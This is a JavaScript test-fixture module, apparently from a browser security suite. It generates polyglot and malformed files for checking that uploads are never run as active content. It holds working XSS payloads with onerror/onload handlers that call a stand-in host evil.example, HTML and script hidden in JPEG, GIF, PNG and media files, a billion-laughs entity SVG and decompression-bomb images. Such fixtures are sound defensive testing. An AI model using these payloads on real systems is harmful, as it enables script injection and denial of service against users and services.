/** Files that are not what they seem: what a browser could take for a page, a script or an endless picture. Each would leave a mark that the driver looks for. */
'use strict'
const zlib = require('zlib')
const pictures = require('./pictures')

const EVIL = 'https://evil.example/'
const RUN = `try{(globalThis.top||globalThis).pwned=1}catch{};try{localStorage.pwned=1}catch{};try{fetch('${EVIL}ran')}catch{};try{document.title='pwned'}catch{}`
const PAGE = `<!doctype html><title>x</title><script>${RUN}</script><img src="${EVIL}img" onerror="${RUN}"><iframe src="${EVIL}frame"></iframe><meta http-equiv=refresh content="0;url=${EVIL}refresh">`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99" onload="${RUN}"><script>${RUN}</script><image href="${EVIL}svg"/><use xlink:href="${EVIL}use#x"/>` +
  `<style>@import "${EVIL}css";</style><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></body></foreignObject><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`
const hex = (text) => Buffer.from(text, 'hex')
const text = (words) => Buffer.from(words, 'latin1')
const utf16 = (words) => Buffer.concat([hex('fffe'), Buffer.from(words, 'utf16le')])
const noise = (n) => Buffer.from(Array.from({ length: n }, (_, i) => (i * i * 31 + i * 7) & 255))

/** A segment of notes with that text in it, where every decoder skips it. */
const jpegWith = (jpeg, words) => {
  const body = text(words)
  const head = Buffer.from([0xff, 0xfe, 0, 0])
  head.writeUInt16BE(body.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)])
}
/** A GIF's head of any size, without a frame. */
const gifHead = (w, h) => {
  const head = Buffer.concat([text('GIF89a'), Buffer.alloc(7)])
  head.writeUInt16LE(w, 6)
  head.writeUInt16LE(h, 8)
  return head
}
const boxed = (brand, body) => {
  const head = Buffer.alloc(24)
  head.writeUInt32BE(24, 0)
  head.write('ftyp' + brand, 4, 'latin1')
  head.write('mif1' + brand, 16, 'latin1')
  return Buffer.concat([head, body])
}
const riff = (kind, body) => {
  const head = Buffer.alloc(12)
  head.write('RIFF', 0, 'latin1')
  head.writeUInt32LE(4 + body.length, 4)
  head.write(kind, 8, 'latin1')
  return Buffer.concat([head, body])
}
/** A frame as large as a GIF can say, of a single byte that never ends. */
const hugeGif = () => Buffer.concat([gifHead(65535, 65535), Buffer.from([0x2c, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0x80, 0, 0, 0, 255, 255, 255, 8, ...Array.from({ length: 2000 }, () => [254, ...Array(254).fill(0)]).flat(), 0, 0x3b])])

/** Each with a name that says what it is, and `isMedia`: a node may show it as what its first bytes are. `jpeg` is a picture that is one. */
exports.all = (jpeg) => [
  ['HTML', text(PAGE)], ['HTML after spaces', text(' \n\t'.repeat(200) + PAGE)], ['HTML after a mark', Buffer.concat([hex('efbbbf'), text(PAGE)])], ['HTML in UTF-16', utf16(PAGE)], ['HTML after zeros', Buffer.concat([Buffer.alloc(600), text(PAGE)])],
  ['HTML after a comment', text('<!-- ' + 'x'.repeat(700) + ' -->' + PAGE)], ['XHTML', text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`)], ['XML with a sheet', text(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${EVIL}x.xsl"?><x/>`)],
  ['SVG', text(SVG)], ['SVG with a head', text('<?xml version="1.0" standalone="no"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + SVG)], ['SVG in UTF-16', utf16(SVG)], ['SVG, packed', zlib.gzipSync(SVG)],
  ['SVG of entities', text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${'bcdefgh'.split('').map((one, i) => `<!ENTITY ${one} "${`&${'abcdefg'[i]};`.repeat(10)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&h;</text></svg>`)],
  ['script', text(RUN)], ['module', text(`${RUN};export default 1`)], ['sheet', text(`@import "${EVIL}sheet.css";body{background:url(${EVIL}bg)}`)], ['worker', text(`${RUN};postMessage(1)`)], ['manifest', text(`{"start_url":"${EVIL}","icons":[{"src":"${EVIL}icon"}]}`)], ['WebAssembly', hex('0061736d01000000')],
  ['PDF', text(`%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n${PAGE}`)], ['MHTML', text(`MIME-Version: 1.0\nContent-Type: multipart/related; boundary="x"\n\n--x\nContent-Type: text/html\n\n${PAGE}\n--x--`)], ['ZIP', Buffer.concat([hex('504b0304'), text(PAGE)])],
  ['web bundle', Buffer.concat([hex('8648f09f8c90f09f93a6'), text(PAGE)])], ['feed', text(`<?xml version="1.0"?><rss version="2.0"><channel><title><![CDATA[${PAGE}]]></title></channel></rss>`)], ['icon', Buffer.concat([hex('00000100'), text(PAGE)])], ['BMP', Buffer.concat([text('BM'), text(PAGE)])], ['Flash', text('FWS\x08' + PAGE)],
  ['one byte', text('<')], ['nothing but zeros', Buffer.alloc(5000)], ['UTF-7', text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
  ['GIF and script', text(`GIF89a=1;${RUN}//`), true], ['GIF and HTML', text(`GIF89a${PAGE}`), true], ['GIF, huge', hugeGif(), true], ['GIF without a frame', gifHead(65535, 65535), true], ['moving GIF', pictures.movingGif(), true],
  ['JPEG with HTML in it', jpegWith(jpeg, PAGE), true], ['JPEG and HTML', Buffer.concat([jpeg, text(PAGE)]), true], ['JPEG of script', Buffer.concat([hex('ffd8ffe0'), text(`=1;/*${'x'.repeat(300)}*/${RUN}`)]), true], ['JPEG, half of it', jpeg.subarray(0, jpeg.length >> 1), true], ['JPEG of noise', Buffer.concat([hex('ffd8ffe000104a46494600010100000100010000'), noise(4000)]), true],
  ['PNG of 40 million points', pictures.claimedPng(8000, 5000), true], ['PNG of four thousand million points', pictures.claimedPng(2 ** 31 - 1, 2), true], ['PNG and HTML', Buffer.concat([hex('89504e470d0a1a0a'), text(PAGE)]), true], ['PNG, half of it', pictures.claimedPng(900, 900).subarray(0, 60), true],
  ['WebP of noise', riff('WEBP', Buffer.concat([text('VP8 '), noise(3000)])), true], ['WebP with HTML', riff('WEBP', text(PAGE)), true], ['AVIF of noise', boxed('avif', noise(3000)), true], ['AVIF with HTML', boxed('avif', text(PAGE)), true],
  ['WAV of noise', riff('WAVE', noise(3000)), true], ['WAV with HTML', riff('WAVE', text(PAGE)), true], ['MP4 of noise', boxed('isom', noise(9000)), true], ['MP4 with HTML', boxed('mp42', text(PAGE)), true], ['Ogg of noise', Buffer.concat([text('OggS\0'), noise(3000)]), true], ['MP3 with HTML', Buffer.concat([text('ID3\x03\0\0\0\0\0\x21'), text(PAGE)]), true],
  ['FLAC of noise', Buffer.concat([text('fLaC'), noise(3000)]), true], ['WebM of noise', Buffer.concat([hex('1a45dfa39f4286810142f7810142f2810442f381084282847765626d'), noise(3000)]), true], ['a film that names another', boxed('isom', Buffer.concat([Buffer.from([0, 0, 0, 60]), text(`moovmvhdrdref url ${EVIL}film.mp4`)])), true],
].map(([name, bytes, isMedia = false]) => ({ name, bytes, isMedia }))

/** What a node may say a blob is. */
exports.SHOWN = /^(image\/(png|jpeg|gif|webp|avif)|(audio|video)\/[a-z0-9.+-]+)$/
